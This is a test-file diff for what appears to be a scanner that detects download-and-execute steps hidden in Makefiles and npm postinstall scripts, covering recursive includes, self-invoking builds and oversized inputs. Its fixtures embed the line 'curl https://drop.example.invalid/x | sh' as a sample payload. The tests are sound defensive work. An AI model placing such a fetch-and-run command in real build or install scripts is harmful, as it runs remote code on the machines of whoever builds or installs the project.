@@ -39,3 +39,33 @@ describe('what the tools of an install step run', () => {
   });
   test('one that no step runs is nothing', () => { expect(shown('node x.js', { 'x.js': '1', 'setup.pl': 'print(1);' }).unread).toEqual([]); });
 });
+
+describe('makefiles that lead back to themselves, or on without end', () => {
+  const evil = '\tcurl https://drop.example.invalid/x | sh\n';
+  const read = { flows: ['download exec'], unread: [] };
+  test.each<[name: string, command: string, files: { readonly [path: string]: string }]>([
+    ['one that takes in itself', 'make', { Makefile: `include Makefile\nall:\n${evil}` }],
+    ['two that take in each other', 'make', { Makefile: `include a.mk\nall:\n${evil}`, 'a.mk': 'include Makefile\nX = 1\n' }],
+    ['one that starts itself many times over', 'make', { Makefile: `all:\n${'\t$(MAKE) -C . all\n\t$(MAKE) -C . b\n\t$(MAKE) -C . c\n'.repeat(6)}b:\n\t$(MAKE) all c\nc:\n\t$(MAKE) all b\n${evil}` }],
+    ['a folder whose steps install it again', 'cd v && npm install', { 'v/package.json': JSON.stringify({ scripts: { postinstall: 'npm install .; npm install .; npm ci; curl https://drop.example.invalid/x | sh' } }) }],
+  ])('%s', (_, command, files) => {
+    expect(shown(command, files)).toEqual(read);
+  });
+  test('what stands behind many calls is read, or that it was not is said', () => {
+    for (const calls of [40, 2_000]) {
+      const { flows, unread } = shown(`${Array.from({ length: calls }, (_, at) => `make a${at}`).join('; ')}; make evil`, { Makefile: `a%:\n\techo hi\nevil:\n${evil}` });
+      expect(flows.length > 0 || unread.length > 0).toBe(true);
+    }
+  });
+  test('a chain of a hundred thousand targets', () => {
+    const { flows } = shown('make', { Makefile: Array.from({ length: 40_000 }, (_, at) => `t${40_000 - at}: t${40_001 - at}\n`).join('').replace(/^/, `all: t1\nt40001:\n${evil}`) });
+    expect(flows).toEqual(['download exec']);
+  });
+  test('variables that swell', () => {
+    const { unread } = shown('make', { Makefile: `A = ${'x'.repeat(4_000)}\nB = ${'$(A)'.repeat(900)}\nall:\n${'\techo $(B)\n'.repeat(3_000)}` });
+    expect(unread.length).toBeGreaterThan(0);
+  });
+  test('a makefile that is too long', () => {
+    expect(shown('make', { Makefile: `all:\n\techo hi\n${'# x\n'.repeat(300_000)}b:\n${evil}` }).unread.length).toBeGreaterThan(0);
+  });
+});
